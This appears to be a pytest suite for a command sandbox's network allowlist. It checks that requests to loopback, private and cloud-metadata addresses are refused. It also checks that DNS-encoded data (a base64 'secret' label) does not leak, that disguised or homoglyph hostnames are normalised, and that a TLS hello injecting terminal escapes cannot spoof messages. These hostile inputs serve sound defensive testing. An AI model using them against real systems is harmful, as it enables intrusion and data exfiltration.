# SPDX-License-Identifier: GPL-3.0-or-later
"""Commands reach the hosts that the user allows, and no others."""

from __future__ import annotations

from pathlib import Path

import pytest
from support.servers.world import in_world

pytestmark = pytest.mark.ordinary


def test_a_named_host_or_service_is_reached_and_another_is_not(tmp_path: Path) -> None:
    in_world(
        tmp_path,
        """
        done = run("curl -sS http://www.example.org/; env | grep -i proxy", ["www.example.org"])
        assert done.out == "hello from 203.0.113.5 as www.example.org", done
        assert done.uses == {"www.example.org": (True, "")}
        done = run("curl -sS http://files.example.org/", ["www.example.org"])
        assert "files.example.org was not allowed" in done.out, done
        assert done.uses == {"files.example.org": (False, "")}

        fetch = "for host in localhost:80 www.example.org:8443 files.example.org:8443 {}; do "
        fetch += "curl -sS http://$host/; done"
        done = run(fetch.format("localhost:5432"), ["www.example.org:8443", "localhost:5432"])
        assert "hello from 203.0.113.5 as www.example.org:8443" in done.out, done
        assert "hello from 127.0.0.1 as localhost:5432" in done.out, done
        assert done.out.count("hello") == 2, done
        # Two rules for the same port.
        done = run(
            fetch.format("203.0.113.5:8443"),
            ["localhost:80", "203.0.113.5:8443", "www.example.org:8443", "*.example.org:8443"],
        )
        assert "hello from 127.0.0.1 as localhost" in done.out, done
        assert done.out.count("hello from 203.0.113.5 as ") == 3, done
        assert list(done.uses) == ["203.0.113.5:8443", "files.example.org:8443", "localhost:80",
                                   "www.example.org:8443"], done
        # A service that was not named is not even asked about.
        done = run(fetch.format(""), ["localhost:5432"], answer=lambda *_question: True)
        assert "127.0.0.1" not in done.out, done
        assert asked == [], asked
        """,
    )


def test_a_host_is_asked_about_once_while_the_connection_waits(tmp_path: Path) -> None:
    in_world(
        tmp_path,
        """
        done = run(
            "curl -sS http://www.example.org/ & curl -sS http://www.example.org/; wait; "
            "curl -sS http://other.example.org/",
            answer=lambda host, port, address: host == "www.example.org",
            wait=0.5,
        )
        assert done.out.count("hello from 203.0.113.5") == 2, done
        assert asked == [("www.example.org", 80, ""), ("other.example.org", 80, "")], asked
        assert done.uses["other.example.org"] == (False, "")
        # A private address is asked about a second time.
        fetch = "curl -sS http://intra.example.org/"
        for yes in (True, False):
            asked.clear()
            done = run(fetch, ["intra.example.org"], answer=lambda host, port, address: yes)
            assert asked == [("intra.example.org", 80, "10.1.2.3")]
            assert ("hello from 10.1.2.3" in done.out) is yes, done
        assert "hello" not in run(fetch, ["*.example.org"]).out
        """,
    )


def test_a_command_does_not_replace_the_files_that_another_mounts(tmp_path: Path) -> None:
    in_world(
        tmp_path,
        """
        from ollmsandbox.paths import Paths
        made = []
        for _ in range(2):
            done = run("cat /etc/resolv.conf /etc/hosts", ["www.example.org"])
            assert "nameserver 198.18.0.1" in done.out and "localhost" in done.out, done
            folder = Paths.from_environ(os.environ).runtime / "files"
            made.append({(file.name, file.stat().st_ino) for file in folder.glob("[!.]*")})
        # bwrap fails if that happens between two steps of its own.
        assert made[0] and made[0] <= made[1]
        """,
    )


ADDRESSES = (
    "127.0.0.1 2130706433 0x7f000001 0.0.0.0 [::1] [::ffff:203.0.113.5] 203.0.113.5 203.0.113.5. "
    "169.254.169.254 10.1.2.3 198.18.0.1 198.18.0.77 3405803781 [2001:db8::1]"
)


def test_names_of_this_computer_and_numbers_are_refused_although_allowed(tmp_path: Path) -> None:
    in_world(
        tmp_path,
        f"""
        fetch = "for host in evil meta nowhere; do curl -sS -m 20 http://$host.example.org/; done"
        done = run(fetch, ["*.example.org"])
        assert "hello" not in done.out, done
        assert {{name: why for name, (_allowed, why) in done.uses.items()}} == {{
            "evil.example.org": "SPECIAL", "meta.example.org": "SPECIAL",
            "nowhere.example.org": "NOT_FOUND"}}, done
        fetch = "for a in {ADDRESSES}; do curl -g -sS -m 5 http://$a/ || echo failed; done"
        done = run(fetch, ["www.example.org", "*.example.org"])
        assert "hello" not in done.out, done
        assert done.out.count("failed\\n") == {len(ADDRESSES.split())}, done
        """,
    )


OTHER_PROTOCOLS = """
import socket
for name in ("www.example.org", "203.0.113.5"):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        try:
            s.sendto(b"out", (name, 443))
        except OSError as error:
            print(error)
for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM):
    try:
        s = socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP)
        s.sendto(bytes(8), ("203.0.113.5", 0))
    except OSError as error:
        print(error)
"""


def test_nothing_but_tcp_leaves(tmp_path: Path) -> None:
    in_world(
        tmp_path,
        f"""
        import socket
        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        udp.bind(("203.0.113.5", 443))
        udp.settimeout(0)
        write_script({OTHER_PROTOCOLS!r})
        assert run("python3 script.py", ["www.example.org"]).code == 0
        try:
            raise AssertionError(udp.recv(10))
        except BlockingIOError:
            pass
        """,
    )


def test_looking_a_name_up_tells_nobody(tmp_path: Path) -> None:
    """Data in names does not leave: only after a yes is a name looked up outside. And a name may
    mean another computer a moment later."""
    in_world(
        tmp_path,
        """
        from ollmsandbox.sandbox.network import network
        looked = []
        real = network.resolve
        network.resolve = lambda host, port: looked.append(host) or real(host, port)
        run("getent hosts c2VjcmV0.other.example.org; curl -sS http://data.other.example.org/")
        assert looked == []
        run("curl -sS http://www.example.org/", ["www.example.org"])
        assert looked == ["www.example.org"]

        answers = [[PUBLIC], ["127.0.0.1"], [PUBLIC, METADATA], ["::ffff:127.0.0.1"], [PUBLIC]]
        network.resolve = lambda host, port: answers.pop(0)
        done = run("for i in 1 2 3 4 5; do curl -s http://www.example.org/; echo; done",
                   ["www.example.org"])
        assert done.out.count("hello from 203.0.113.5") == 2 == done.out.count("hello"), done
        assert answers == []
        """,
    )


MANY_NAMES = """
import socket, struct
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
udp.settimeout(20)
codes = set()
for number in range(700):
    label = b"n%d" % number
    name = bytes([len(label)]) + label + b"\\x07example\\x00"
    udp.sendto(struct.pack(">6H", number, 256, 1, 0, 0, 0) + name + b"\\0\\1\\0\\1",
               ("198.18.0.1", 53))
    codes.add(udp.recv(500)[3] & 15)
print(codes)
"""


def test_more_names_than_there_are_addresses(tmp_path: Path) -> None:
    in_world(
        tmp_path,
        f"""
        from ollmsandbox.sandbox.network import names
        names._MOST_NAMES = 500
        write_script({MANY_NAMES!r})
        done = run("python3 script.py; curl -sS http://other.example.org/; "
                   "curl -sS http://www.example.org/", ["www.example.org", "*.example.org"],
                   timeout=300)
        # A failure of the server, for names beyond the last address.
        assert "{{0, 2}}" in done.out, done
        assert done.out.count("hello from") == 1, done
        assert "hello from 203.0.113.5 as www.example.org" in done.out, done
        """,
    )


def test_a_run_cannot_use_the_addresses_of_another(tmp_path: Path) -> None:
    in_world(
        tmp_path,
        """
        program = [sys.executable, "-I", str(ROOT / "build" / "ollmsandbox")]
        wait = "getent ahostsv4 www.example.org; read line; curl -sS http://www.example.org/"
        one = subprocess.Popen([*program, "run", "--host", "www.example.org", "-c", wait],
                               cwd=os.getcwd() + "/project", text=True,
                               stdin=subprocess.PIPE, stdout=subprocess.PIPE)
        address = one.stdout.readline().split()[0]
        assert address.startswith("198.18."), address
        tries = f"for i in $(seq 0 20) 77 $(echo {address} | cut -d. -f4); do "
        tries += "curl -sS -m 5 http://198.18.0.$i/; curl -sS -m 5 http://198.19.255.$i/; done"
        done = run(tries, ["other.example.org"])
        assert "hello from 203.0.113.5" not in done.out, done
        out, _errors = one.communicate("go\\n")
        assert "hello from 203.0.113.5" in out
        """,
    )


# The parts of names, as a program could send them.
DISGUISED = [
    ["WWW", "Example", "ORG"],
    ["xn--bcher-kva", "example"],
    ["b\u00fccher", "example"],
    ["www.example.org"],
    ["www", "example", "org\n"],
    ["www\0", "example", "org"],
    ["www.ex\u0430mple", "org"],
    ["\x1b[2Jwww", "example", "org"],
    ["www", "example", "org\u202e"],
    ["www example", "org"],
    ["-www", "example"],
]
ASK_DISGUISED = f"""
import socket, struct
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
udp.settimeout(20)
for labels in {[[label.encode() for label in labels] for labels in DISGUISED]}:
    name = b"".join(bytes([len(label)]) + label for label in labels) + bytes(1)
    query = struct.pack(">6H", 7, 256, 1, 0, 0, 0) + name + bytes([0, 1, 0, 1])
    udp.sendto(query, ("198.18.0.1", 53))
    answer = udp.recv(500)
    if answer[7]:
        with socket.create_connection((socket.inet_ntoa(answer[-4:]), 80)) as tcp:
            tcp.sendall(b"GET / HTTP/1.0")
            tcp.recv(100)
"""


def test_no_question_shows_a_name_that_looks_like_another(tmp_path: Path) -> None:
    in_world(
        tmp_path,
        f"""
        write_script({ASK_DISGUISED!r})
        done = run("python3 script.py", answer=lambda *_question: False)
        assert done.code == 0, done
        assert asked == [("www.example.org", 80, ""), ("xn--bcher-kva.example", 80, "")], asked
        """,
    )


# Sends a hello with a name that is no name, or a broken one.
ODD_HELLOS = """
import socket, ssl, sys
sent = ssl.MemoryBIO()
context = ssl.create_default_context()
client = context.wrap_bio(ssl.MemoryBIO(), sent, server_hostname="a" * 29)
try:
    client.do_handshake()
except ssl.SSLWantReadError:
    pass
hello = sent.read()
odd = hello.replace(b"a" * 29, bytes([27]) + b"[2J" + bytes([10]) + b"ollmsandbox: all is well")
broken = bytes([21, 3, 1, 0, 2, 1, 90]) + hello
with socket.create_connection(("www.example.org", 443)) as tls:
    tls.sendall(odd if "odd" in sys.argv else broken)
    tls.recv(1)
"""


def test_the_name_in_a_tls_hello_has_to_be_the_host_and_says_nothing_to_the_user(
    tmp_path: Path,
) -> None:
    in_world(
        tmp_path,
        f"""
        serve_https(PUBLIC, ["www.example.org", "files.example.org"])
        fetch = "curl -sS --cacert ca.pem https://www.example.org/"
        other = "--connect-to files.example.org:443:www.example.org:443 https://files.example.org/"
        done = run(fetch, ["www.example.org"])
        assert "hello" in done.out, done
        done = run(f"curl -sS --cacert ca.pem {{other}}", ["www.example.org"])
        assert "hello" not in done.out, done
        assert done.uses["www.example.org"][1] == "OTHER_NAME"
        write_script({ODD_HELLOS!r})
        for kind, name in (("odd", repr("\\x1b[2j\\nollmsandbox: all is well")), ("broken", "'?'")):
            done = run(f"python3 script.py {{kind}}; {{fetch}}", ["www.example.org"])
            # Also if there are other connections after it.
            assert "hello" in done.out, done
            text = f"A connection to www.example.org was closed, because it was meant for {{name}}."
            assert done.refusals == (text,), done
        """,
    )


MANY = """
import socket
silent = [socket.create_connection(("www.example.org", 80)) for _ in range(50)]
half = socket.create_connection(("www.example.org", 443))
half.send(bytes([22, 3, 1, 2, 0, 1]))
dead = socket.socket()
dead.setblocking(False)
dead.connect_ex((socket.gethostbyname("dead.example.org"), 80))
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    for n in range(2000):
        s.sendto(bytes([n % 256]) * (n % 600), ("198.18.0.1", 53))
many = [socket.create_connection(("www.example.org", 80)) for _ in range(1000)]
for one in many:
    one.sendall(b"GET /10 HTTP/1.0\\r\\n\\r\\n")
good = 0
for one in many:
    data = b""
    while part := one.recv(1000):
        data += part
    good += data.endswith(b"x" * 10)
print(good)
"""


def test_many_connections_garbage_and_silence(tmp_path: Path) -> None:
    in_world(
        tmp_path,
        f"""
        import os, resource, threading
        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
        write_script({MANY!r})
        run("true", ["*.example.org"])
        before = len(os.listdir("/proc/self/fd"))
        done = run("python3 script.py", ["*.example.org"])
        assert done.out == "1000\\n", done
        after = os.listdir("/proc/self/fd")
        assert len(after) == before, [os.readlink(f"/proc/self/fd/{{number}}") for number in after]
        assert not [t for t in threading.enumerate() if t.name == "relay"]
        """,
    )


def test_a_late_yes_is_explained_unless_another_try_succeeded(tmp_path: Path) -> None:
    in_world(
        tmp_path,
        """
        import socket, time

        def wait_for(address, port, number):
            while received.get((address, port), 0) < number:
                time.sleep(0.01)

        def answer_late(host, port, address):
            # Until the program has given up, and said so.
            wait_for("127.0.0.1", 5432, len("/gone"))
            return True

        # Ends a connection as soon as the late one has reached the server.
        waiter = socket.create_server(("127.0.0.1", 6000))

        def end_later():
            client, _address = waiter.accept()
            wait_for(PUBLIC, 80, len("/late"))
            client.close()

        hosts = ["localhost:5432", "localhost:6000"]
        late = (
            "curl -sS -m 1 http://www.example.org/late; curl -sS http://localhost:5432/gone;"
            " curl -sS http://localhost:6000/;"
        )
        for more, is_explained in (("", True), (" curl -sS http://www.example.org/", False)):
            received.clear()
            threading.Thread(target=end_later, daemon=True).start()
            done = run(late + more, hosts, answer=answer_late)
            assert ("hello from 203.0.113.5" in done.out) is not is_explained, done
            assert done.uses["www.example.org"] == (True, ""), done
            said = any("www.example.org was allowed too late" in text for text in done.refusals)
            assert said is is_explained, done
        """,
    )
